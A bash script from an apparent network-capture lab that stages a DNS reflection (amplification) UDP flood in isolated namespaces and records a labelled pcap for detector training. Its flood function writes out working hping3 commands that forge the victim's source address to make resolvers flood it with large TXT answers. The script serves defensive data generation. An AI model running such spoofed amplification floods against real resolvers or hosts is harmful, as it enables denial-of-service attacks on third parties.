#!/usr/bin/env bash
# Nightjar capture lab: a reflected (amplification) UDP flood, captured at its victim.
#
#   sudo lab/reflection.sh --name reflection --seed 2121 [--out data/captures]
#
# Five DNS resolvers (dnsmasq, .31–.35) answer a TXT question with ~470 bytes. The attacker
# (.66) sends them small questions with the victim's address (.10) forged as their source
# (hping3 -a, -c bounded, 500 a second each), so their answers flood the victim. tcpdump runs
# on the victim's own link (its namespace's eth0), as a host's or its uplink's IDS sees it:
# the answers arrive, the forged questions do not show. Around the floods, a normal client
# (.20) browses the victim's web server, and the victim asks the resolvers real questions,
# 20-30 a second (answers it asked for, which must stay normal); it answers nothing it did not
# ask for (closed ports: ICMP port unreachable, rate-limited by its kernel).
#
# Three floods, 800 questions to each resolver in each, 5 s apart:
#   1. all answers to one closed port of the victim (hping3 -s 40000 -k);
#   2. answers to ports counting up from a random one (hping3's default source ports);
#   3. answers to another service's port, SNMP 161, closed on the victim (-s 161 -k).
#
# Labels: the attackers are the five resolvers, the flood's senders on the victim's wire;
# each has a `flood-udp` episode per flood, from the attack command's start to 2 s after it
# returned. The attacker itself never appears in the capture.
#
# Safety (lab/README.md): namespaces of this script only, addresses in 198.18.0.0/24, no
# route out; every process under `timeout`, ended by PID; hping3 bounded by -c; the forged
# source is the lab's own victim. Teardown on any exit (lib.sh).
set -euo pipefail

# shellcheck source=lab/lib.sh
source "$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/lib.sh"

run_args reflection 2121 2,26 "$@"
ensure_tools dnsmasq:dnsmasq-base
WORK="$(mktemp -d /tmp/njreflect.XXXXXX)"
RESOLVERS=(31 32 33 34 35)
VICTIM=198.18.0.10
RUN_SECS=120 # the whole run's bound: every process below ends by then

lab_up 1 1
trap 'rc=$?; rm -rf "$WORK"; lab_down "$rc"' EXIT
for r in "${RESOLVERS[@]}"; do add_host "r$r" "$r"; done
sleep 1

# the question: id 0x1234, recursion desired, TXT big.example (29 bytes)
"$PY" - "$WORK/q.bin" <<'PY'
import struct, sys
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x03big\x07example\x00" + struct.pack(">HH", 16, 1)
open(sys.argv[1], "wb").write(q)
PY
TXT=$(printf 'x%.0s' $(seq 200))
for r in "${RESOLVERS[@]}"; do
    bg "r$r" "$RUN_SECS" dnsmasq --no-daemon --no-resolv --no-hosts --bind-interfaces \
        --listen-address="198.18.0.$r" --pid-file="$WORK/dnsmasq$r.pid" \
        --txt-record="big.example,$TXT" --txt-record="big.example,$TXT" \
        --address=/www.example/$VICTIM
done
bg victim "$RUN_SECS" "$PY" "$LAB_DIR/services.py" --duration "$RUN_SECS"
sleep 1
bg victim "$RUN_SECS" tcpdump -i eth0 -n -s 96 -U -Z root --time-stamp-precision=micro \
    -w "$WORK/$NAME.pcap"
TCPDUMP=$BG_PID
sleep 2

# normal traffic, bounded by its loop's end time and by timeout: the client browses the
# victim's web server; the victim itself asks the resolvers questions, 20-30 a second from a
# new port each, half of them for the large TXT answer (answers it asked for, at the rate of
# the floods' first seconds: the rule must leave them alone)
cat >"$WORK/normal.py" <<'PY'
import random, socket, struct, sys, time, urllib.request
role, rng = sys.argv[1], random.Random(int(sys.argv[2]))
victim, resolvers = sys.argv[3], [f"198.18.0.{r}" for r in sys.argv[4:]]
end = time.time() + 75
while time.time() < end:
    if role == "browse":
        try:
            urllib.request.urlopen(f"http://{victim}/", timeout=2).read()
        except OSError:
            pass
        time.sleep(rng.uniform(0.1, 0.6))
        continue
    name = rng.choice([b"\x03www\x07example\x00", b"\x03big\x07example\x00"])
    qtype = 16 if b"big" in name else 1
    q = struct.pack(">HHHHHH", rng.randrange(65536), 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", qtype, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(q, (rng.choice(resolvers), 53))
        try:
            s.recvfrom(2048)
        except OSError:
            pass
    time.sleep(rng.uniform(0.02, 0.05))
PY
bg c0 "$RUN_SECS" "$PY" "$WORK/normal.py" browse "$SEED" "$VICTIM" "${RESOLVERS[@]}"
bg victim "$RUN_SECS" "$PY" "$WORK/normal.py" resolve "$SEED" "$VICTIM" "${RESOLVERS[@]}"
nap 15

: >"$WORK/episodes"
flood() { # flood HPING_PORT_ARGS...
    local s e r pids=()
    s=$(now)
    for r in "${RESOLVERS[@]}"; do
        ns a0 timeout 30 hping3 -q -2 -a "$VICTIM" "$@" -p 53 -E "$WORK/q.bin" -d 29 \
            -i u2000 -c 800 "198.18.0.$r" >/dev/null 2>&1 &
        pids+=($!)
        LAB_PIDS+=($!)
    done
    wait "${pids[@]}" || true
    e=$(now)
    log "flood $* : $s - $e"
    for r in "${RESOLVERS[@]}"; do
        printf '{"src": "198.18.0.%s", "label": "flood-udp", "start": %s, "end": %s, "command": "hping3 -2 -a %s %s -p 53 -E q.bin -d 29 -i u2000 -c 800 198.18.0.%s (from 198.18.0.66, with the other resolvers)"}\n' \
            "$r" "$s" "$(awk -v e="$e" 'BEGIN { printf "%.6f", e + 2 }')" "$VICTIM" "$*" "$r" >>"$WORK/episodes"
    done
    nap 5
}
flood -s 40000 -k
flood
flood -s 161 -k
nap 10
kill -INT "$TCPDUMP" 2>/dev/null || true
wait "$TCPDUMP" 2>/dev/null || true

"$PY" - "$WORK/episodes" "$NAME" "$SEED" "${RESOLVERS[@]}" >"$WORK/$NAME.labels.json" <<'PY'
import json, sys
eps = [json.loads(l) for l in open(sys.argv[1])]
name, seed = sys.argv[2], int(sys.argv[3])
print(json.dumps({"capture": f"{name}.pcap", "seed": seed,
                  "attackers": [{"ip": f"198.18.0.{r}"} for r in sys.argv[4:]],
                  "episodes": eps}, indent=1))
PY
mv "$WORK/$NAME.pcap" "$WORK/$NAME.labels.json" "$OUT/"
log "wrote $OUT/$NAME.pcap and $OUT/$NAME.labels.json"
